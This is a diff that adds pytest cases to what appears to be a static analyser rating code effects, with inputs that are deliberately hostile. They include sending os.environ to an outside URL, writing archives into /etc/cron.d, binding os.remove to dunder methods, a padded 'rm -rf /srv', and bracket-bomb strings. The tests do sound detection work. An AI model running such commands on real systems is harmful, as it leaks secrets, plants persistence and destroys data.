@@ -157,6 +157,42 @@ def test_too_much_is_refused_and_not_judged_in_part() -> None:
     assert surveyed("true\n" * (MAX_JUDGED + 10)).kind is EffectKind.UNKNOWN
 
 
+@pytest.mark.parametrize(
+    "name", ["__class_getitem__", "__add__", "__getattr__", "__contains__", "__str__"]
+)
+def test_what_the_language_calls_by_itself_is_called(name: str) -> None:
+    inside = f"import os\nclass C:\n    {name} = os.remove"
+    later = f"import os\nclass C: pass\nC.{name} = os.remove"
+    for code in (inside, later):
+        assert surveyed(code, "python").kind.rank > EffectKind.REVERSIBLE.rank, code
+
+
+def test_the_whole_environment_is_not_sent_unnoticed() -> None:
+    code = "import os, requests\nrequests.get('http://x', params=dict(os.environ))"
+    assert Mark.SENDS_OUT in marks(code, "python")
+
+
+def test_an_archive_is_written_or_read_by_its_mode() -> None:
+    start = "import gzip, zipfile, tarfile\n"
+    assert surveyed(start + "gzip.open('/srv/a.gz').read()", "python").kind is EffectKind.READ
+    assert surveyed(start + "tarfile.open('/srv/a', 'r:xz')", "python").kind is EffectKind.READ
+    assert Mark.PERSISTS in marks(start + "zipfile.ZipFile('/etc/cron.d/x', 'w')", "python")
+    assert Mark.PERSISTS in marks(start + "tarfile.open('/etc/cron.d/x', 'w:xz')", "python")
+
+
+@pytest.mark.parametrize(
+    ("code", "language"),
+    [("$[" * 20_000, "bash"), ("a[$[" * 20_000, "bash"), ("select a" + "[1]" * 5_000, "sql")],
+)
+def test_brackets_in_brackets_without_end_are_refused(code: str, language: Language) -> None:
+    assert surveyed(code, language).kind is EffectKind.UNKNOWN
+
+
+def test_many_words_in_front_of_a_command_are_read_once_each() -> None:
+    report = surveyed("env " + "A=1 " * 20_000 + "rm -rf /srv")
+    assert report.kind is EffectKind.DESTRUCTIVE
+
+
 def test_a_credential_is_found_in_every_language() -> None:
     key = "AKIA" + "Q3EGRIBBHTPOXYZA"[:16]
     for language in get_args(Language):
